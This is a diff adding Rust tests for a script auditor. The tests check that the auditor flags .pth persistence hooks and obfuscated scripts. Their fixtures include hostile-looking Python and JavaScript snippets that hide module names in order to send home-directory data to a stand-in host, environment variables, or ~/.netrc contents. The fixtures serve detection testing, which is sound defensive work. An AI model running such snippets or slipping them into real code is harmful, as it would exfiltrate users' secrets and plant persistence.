@@ -1363,3 +1363,98 @@ fn configuration_that_makes_tools_run_commands_is_read_as_a_script() {
         "[alias]\n\tlg = log --graph --oneline\n[pull]\n\trebase = true\n",
     );
 }
+
+#[test]
+fn a_pth_file_written_with_an_import_line_is_persistence() {
+    caught(
+        "scripts/setup_hooks.py",
+        "import site\nfrom pathlib import Path\nfor d in site.getsitepackages():\n    (Path(d) / \"nb-hooks.pth\").write_text(\"import nb_hooks\\n\")\n",
+        Rule::Persistence,
+    );
+    let found = audit(
+        "scripts/scrub.py",
+        "import site, sys\nfrom pathlib import Path\nmodule = sys.argv[1]\nfor d in [Path(site.getusersitepackages())]:\n    (d / \"hooks.pth\").write_text(f\"import {module}\\n\")\n",
+    );
+    assert!(
+        found
+            .iter()
+            .any(|(rule, severity)| *rule == Rule::Persistence && *severity >= Severity::Medium),
+        "{found:?}"
+    );
+    // A model's weights, saved under a folder the script names.
+    quiet(
+        "scripts/train.py",
+        "import sys\nout = sys.argv[1]\nwith open(out + \"/model.pth\", \"wb\") as f:\n    f.write(weights)\nopen(\"checkpoints/best.pth\", \"wb\").write(blob)\n",
+    );
+    let found = audit(
+        "scripts/train2.py",
+        "import sys\nout = sys.argv[1]\nwith open(out + \"/model.pth\", \"wb\") as f:\n    f.write(weights)\n",
+    );
+    assert!(
+        found.iter().all(|(rule, _)| *rule != Rule::Persistence),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn a_name_computed_to_hide_what_is_called_is_medium_where_the_script_reaches_out() {
+    let medium = |file: &str, text: &str| {
+        let found = audit(file, text);
+        assert!(
+            found.contains(&(Rule::ObfuscatedScript, Severity::Medium)),
+            "{file}: {found:?}\n{text}"
+        );
+    };
+    medium(
+        "scripts/diff.py",
+        "import importlib\nfrom pathlib import Path\nT = ['rcs/yvo/erdhhvw']\ndef r(s):\n    return s[::-1].translate(MAP)\nm = importlib.import_module(r(T[0]))\nf = getattr(m, r(T[1]))\nf('https://x.example', data=Path.home().read_bytes())\n",
+    );
+    medium(
+        "scripts/infer.py",
+        "import functools, os\nparts = decode(KEY).split('.')\nsend = functools.reduce(getattr, parts[1:], __import__(parts[0]))\nsend(os.environ)\n",
+    );
+    medium(
+        "scripts/lint.js",
+        "const op = (k) => TABLE[k].map((c, i) => c ^ KEY[i]).join('');\nconst loader = module.constructor._load(op('n'), module);\nReflect.apply(Reflect.get(loader, op('i')), loader, [op('v')]);\nconsole.log(process.env.HOME);\n",
+    );
+    medium(
+        "scripts/g.py",
+        "import os\nname = ''.join(reversed(SECRET))\nglobals()[name](os.path.expanduser('~/.netrc'))\n",
+    );
+    // Plugin loaders and attribute look-ups on the script's own objects,
+    // or scripts that reach nothing, are not hiding anything.
+    for (file, text) in [
+        (
+            "scripts/plugins.py",
+            "import importlib, sys\nfor name in sys.argv[1:]:\n    importlib.import_module(f'plugins.{name}').run()\n",
+        ),
+        (
+            "scripts/cli.py",
+            "import requests\nclass C:\n    def go(self, cmd):\n        return getattr(self, 'do_' + cmd)()\nrequests.get('https://api.github.com')\n",
+        ),
+        (
+            "scripts/const.js",
+            "const m = 'fs';\nconst fs = module.constructor._load(m);\nfetch('https://example.com');\n",
+        ),
+    ] {
+        let found = audit(file, text);
+        assert!(
+            !found
+                .iter()
+                .any(|(rule, _)| *rule == Rule::ObfuscatedScript),
+            "{file}: {found:?}"
+        );
+    }
+}
+
+#[test]
+fn a_module_and_its_function_both_looked_up_by_computed_names_is_medium() {
+    let found = audit(
+        "scripts/normalize.py",
+        "import importlib, json\nnet, call = unshift(HEADERS[0]), unshift(HEADERS[1])\nmod = importlib.import_module(net)\nvars(mod)[call](dest, json.dumps(rows).encode(), 4)\n",
+    );
+    assert!(
+        found.contains(&(Rule::ObfuscatedScript, Severity::Medium)),
+        "{found:?}"
+    );
+}
